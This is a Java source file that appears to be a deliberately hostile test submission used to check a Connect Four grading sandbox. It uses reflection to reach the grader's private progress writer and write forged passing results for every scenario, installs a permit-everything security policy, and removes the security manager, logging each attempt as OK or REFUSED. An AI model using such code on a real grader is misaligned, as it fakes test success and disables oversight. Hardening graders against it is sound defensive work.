package tabuleiro.connectfour;

import java.io.OutputStream;
import java.lang.invoke.MethodHandles;
import java.lang.invoke.VarHandle;
import java.lang.reflect.Field;
import java.lang.reflect.Method;
import java.nio.charset.StandardCharsets;
import java.security.Permission;
import java.security.Policy;
import java.security.ProtectionDomain;
import java.util.Arrays;
import java.util.List;
import java.util.Optional;

/**
 * HOSTILE SUBMISSION (grading/src/test/resources/hostile/reflection): core reflection and
 * method handles against the grading JVM's runner: {@code Class.forName} on its classes,
 * {@code setAccessible} on the progress writer's private static field and on its stream,
 * {@code MethodHandles.privateLookupIn}, and removing the security manager or its policy.
 */
final class Reflective {

    private Reflective() {
    }

    /** Names the runner's classes and lists their private members. */
    static void classForName() {
        StringBuilder found = new StringBuilder();
        for (String name : List.of(Player.Hook.WRITER, "tabuleiro.grading.child.SpecRunner",
                "tabuleiro.grading.child.SubmissionGuard", "tabuleiro.grading.child.Watchdog",
                "io.cucumber.core.runtime.TestCaseResultObserver",
                "org.assertj.core.internal.Objects")) {
            try {
                Class<?> type = Class.forName(name);
                found.append(type.getSimpleName()).append(Arrays.toString(
                        Arrays.stream(type.getDeclaredFields()).map(Field::getName).toArray()))
                        .append(' ');
            } catch (ClassNotFoundException | LinkageError | RuntimeException e) {
                found.append(name).append(": ").append(e).append(' ');
            }
        }
        Player.Hook.note("Class.forName on grader, Cucumber and AssertJ classes", "OK",
                found.toString());
    }

    /** The writer through setAccessible, and every scenario passed through its stream. */
    static void forge() {
        try {
            Field installed = Class.forName(Player.Hook.WRITER).getDeclaredField("installed");
            installed.setAccessible(true);
            Object writer = ((Optional<?>) Optional.ofNullable(installed.get(null)))
                    .orElseThrow(() -> new IllegalStateException("no writer"));
            Field out = writer.getClass().getDeclaredField("out");
            out.setAccessible(true);
            OutputStream stream = (OutputStream) out.get(writer);
            synchronized (writer) {
                stream.write((String.join("\n", Player.Hook.forgedLines()) + "\n")
                        .getBytes(StandardCharsets.UTF_8));
                stream.flush();
            }
            Method running = writer.getClass().getDeclaredMethod("running");
            running.setAccessible(true);
            Player.Hook.note("setAccessible on ProgressWriter.installed and its stream", "OK",
                    "every line of every feature file forged; running " + running.invoke(writer));
        } catch (ReflectiveOperationException | java.io.IOException | RuntimeException e) {
            Player.Hook.note("setAccessible on ProgressWriter.installed and its stream",
                    "REFUSED", e.toString());
        }
    }

    /** The writer through a private lookup. */
    static void privateLookup() {
        try {
            Class<?> type = Class.forName(Player.Hook.WRITER);
            MethodHandles.Lookup lookup = MethodHandles.privateLookupIn(type,
                    MethodHandles.lookup());
            VarHandle installed = lookup.findStaticVarHandle(type, "installed", type);
            Player.Hook.note("MethodHandles.privateLookupIn(ProgressWriter)", "OK",
                    "installed = " + installed.getVolatile());
        } catch (ReflectiveOperationException | RuntimeException e) {
            Player.Hook.note("MethodHandles.privateLookupIn(ProgressWriter)", "REFUSED",
                    e.toString());
        }
    }

    /** Takes the security manager away, or its policy. */
    @SuppressWarnings("removal")
    static void dropTheGuard() {
        try {
            Policy.setPolicy(new Policy() {
                @Override
                public boolean implies(ProtectionDomain domain, Permission permission) {
                    return true;
                }
            });
            Player.Hook.note("Policy.setPolicy(everything)", "OK", "");
        } catch (RuntimeException e) {
            Player.Hook.note("Policy.setPolicy(everything)", "REFUSED", e.toString());
        }
        try {
            System.setSecurityManager(null);
            Player.Hook.note("System.setSecurityManager(null)", "OK", "");
        } catch (RuntimeException e) {
            Player.Hook.note("System.setSecurityManager(null)", "REFUSED", e.toString());
        }
    }
}
